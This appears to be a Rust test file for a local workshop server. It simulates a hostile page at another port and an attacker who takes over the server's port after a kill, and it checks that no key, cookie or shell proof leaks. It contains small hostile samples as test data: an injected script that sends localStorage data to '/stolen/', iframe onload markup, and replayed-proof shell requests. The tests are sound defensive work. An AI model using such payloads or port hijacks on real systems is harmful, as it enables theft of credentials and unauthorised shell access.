//! Who else is on this machine: a page at another port, somebody who takes ours, and a port that is forwarded to it.

use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use axum::Router;
use axum::extract::Request;
use axum::extract::ws::{Message, WebSocketUpgrade};
use axum::http::Uri;
use axum::middleware::{Next, from_fn};
use axum::response::Html;
use axum::routing::any;
use nix::sys::signal::Signal;
use serde_json::json;
use tokio::net::{TcpListener, TcpStream};
use tokio::runtime::Runtime;

use crate::alone;
use crate::common::{Server, proof_of};
use crate::learner::{browser_at, visit};
use crate::reader::Reader;
use crate::writing::open_again;

/// Another user's server, which keeps what it gets. It gives the port back when it goes.
struct Other {
    port: u16,
    got: Arc<Mutex<String>>,
    _runtime: Runtime,
}

impl Other {
    /// At this port, or at any, with these answers, and with an event for each socket.
    fn new(port: u16, answer: impl Fn(&str) -> String + Clone + Send + Sync + 'static) -> Self {
        let (runtime, got) = (Runtime::new().unwrap(), Arc::<Mutex<String>>::default());
        let listener = runtime.block_on(TcpListener::bind(("127.0.0.1", port))).unwrap();
        let (port, keeps) = (listener.local_addr().unwrap().port(), got.clone());
        let event = r#"{"kind":"state","state":{"folder":"theirs"}}"#;
        let sends = async |upgrade: WebSocketUpgrade| {
            let upgrade = upgrade.protocols(["workshop"]);
            upgrade.on_upgrade(async |mut socket| drop(socket.send(Message::Text(event.into())).await))
        };
        let keep = move |request: Request, next: Next| {
            let head = format!("{} {} {:?}\n", request.method(), request.uri(), request.headers());
            *keeps.lock().unwrap() += &head;
            next.run(request)
        };
        let app = Router::new().route("/api/events", any(sends));
        let app = app.fallback(async move |uri: Uri| Html(answer(uri.path()))).layer(from_fn(keep));
        runtime.spawn(async { axum::serve(listener, app).await });
        Self { port, got, _runtime: runtime }
    }

    fn wait_for(&self, text: &str) {
        let deadline = Instant::now() + Duration::from_secs(300);
        while !self.got.lock().unwrap().contains(text) {
            assert!(Instant::now() < deadline, "{text} never comes: {}", self.got.lock().unwrap());
            thread::sleep(Duration::from_millis(20));
        }
    }
}

/// How the server answers to somebody who wants a shell with this proof.
fn shell(server: &Server, proof: &str) -> u16 {
    let head = format!("POST /api/terminals HTTP/1.1\nHost: 127.0.0.1:{}\nX-Proof: {proof}", server.port());
    server.ask(&head, b"").status
}

/// The learner opens a page of somebody's at another port of this address.
#[test]
fn a_page_at_another_port_gets_nothing() {
    let (_folder, server) = alone();
    let mut page = visit(&server);
    let theirs = include_str!("another-port.html").replace("ORIGIN", &json!(server.origin()).to_string());
    let other = Other::new(0, move |_| theirs.clone());
    page.visit(&format!("http://127.0.0.1:{}/", other.port));
    page.until("document.title === 'told'");
    let nothing = json!({ "run": "no", "state": "no", "shell": "no", "inside": "no", "blind": "no", "socket": "no",
        "known": "no", "own": "0" });
    assert_eq!(page.eval("window.told"), nothing);
    assert_eq!(server.state()["terminals"], json!([]));
    let got = other.got.lock().unwrap().to_lowercase();
    assert!(!got.contains("cookie:") && !got.contains(server.key()) && !got.contains("proof"), "{got}");
}

/// The server ends, and somebody takes its port. Whoever answers there can't prove to the page that it is the workshop, and the
/// lesson's scripts have no origin. What the open page gives them is worth nothing after that.
#[test]
fn whoever_takes_our_port_finds_no_key_in_the_open_tab() {
    let (_folder, mut server) = alone();
    let mut page = visit(&server);
    let (old, old_key) = (server.proof(), server.key().to_owned());
    let (port, run, asked) = (server.port(), server.run(), server.state()["questions"].clone());
    let cards = asked.as_array().unwrap().iter().filter(|one| one["program"] == "01").map(|one| {
        format!(
            "<form class=question data-name={}>theirs<iframe src=/ onload=alert()></iframe></form>",
            one["id"]
        )
    });
    let lesson = include_str!("our-port.html").to_owned() + &cards.collect::<String>();
    server.end(Signal::SIGKILL);
    let other = Other::new(port, move |path| match path {
        "/run" => run.clone(),
        "/" => "<script>fetch('/stolen/' + localStorage.length)</script>".to_owned(),
        _ if path.starts_with("/book/") => lesson.clone(),
        _ => "{}".to_owned(),
    });
    page.eval("document.querySelector('#lesson-start').click()");
    other.wait_for("GET /told/");
    page.sees(&[("banner", "This tab is not connected")]);
    // The card of a question is theirs, too.
    page.eval("document.querySelector('#run').click()");
    page.sees(&[("panel", "theirs")]);
    assert_eq!(page.eval("document.querySelectorAll('#panel iframe').length"), 0);
    page.poll_frame("document.title === 'theirs'");
    other.wait_for(&old);
    let got = other.got.lock().unwrap().clone();
    let told = "/told/%7Bstorage:no,page:no,window:no,top:no,worker:no%7D";
    assert!(got.contains(told) && !got.contains("/stolen") && !got.contains(&old_key), "{got}");
    let tabs = page.call("Target.getTargets", json!({}))["targetInfos"].to_string();
    assert_eq!(tabs.matches(&server.origin()).count(), 1, "{tabs}");
    assert_eq!(page.eval("localStorage.getItem('workshop:key')"), json!(old_key).to_string());
    // Once the workshop is back, nothing of them is left, and they can't use what they got.
    drop(other);
    server.again();
    assert_eq!(server.port(), port);
    let worthless = [old, proof_of(&server.run(), &old_key)];
    assert_eq!(worthless.map(|proof| shell(&server, &proof)), [401, 401]);
    assert_eq!(shell(&server, &server.proof()), 200);
    open_again(&mut page, &server);
    page.poll_frame("document.title !== 'theirs'");
}

/// Forwards a port to this one, as `ssh -L` does, until the runtime goes.
fn forward(to: u16) -> (Runtime, u16) {
    let runtime = Runtime::new().unwrap();
    let listener = runtime.block_on(TcpListener::bind("127.0.0.1:0")).unwrap();
    let port = listener.local_addr().unwrap().port();
    runtime.spawn(async move {
        while let (Ok((mut here, _)), Ok(mut there)) =
            (listener.accept().await, TcpStream::connect(("127.0.0.1", to)).await)
        {
            tokio::spawn(async move { tokio::io::copy_bidirectional(&mut here, &mut there).await });
        }
    });
    (runtime, port)
}

#[test]
fn behind_a_forwarded_port_the_banner_says_what_to_open_and_covers_no_toolbar() {
    let (_folder, server) = alone();
    let (_runtime, port) = forward(server.port());
    let mut page = browser_at(&format!("http://localhost:{port}/"));
    let way =
        format!("forwarded its port to {port}, open http://localhost:{port}/ and after it what the printed ");
    page.sees(&[("banner", &way)]);
    for (width, height) in [(768, 844), (390, 844), (1280, 720)] {
        page.size(width, height);
        page.until(&format!(
            "innerWidth === {width} && (below => [...document.querySelectorAll('.bar')].every((bar) =>
                bar.getBoundingClientRect().top >= below))(document.querySelector('#banner').getBoundingClientRect().bottom)"
        ));
    }
    // It moves them by no more than one of its lines, although it is long.
    let top = |page: &mut Reader| page.eval("document.querySelector('.bar').getBoundingClientRect().top");
    let before = top(&mut page).as_f64().unwrap();
    let (_, end) = server.url.split_once('#').unwrap();
    page.eval(&format!("location.href = 'http://localhost:{port}/#{end}'"));
    page.until("document.querySelector('#banner').hidden");
    let now = top(&mut page).as_f64().unwrap();
    assert!(before - now < 20.0, "{before}, {now}");
    page.click("new-shell");
    page.sees(&[("terminal-tab", "Shell 1")]);
}
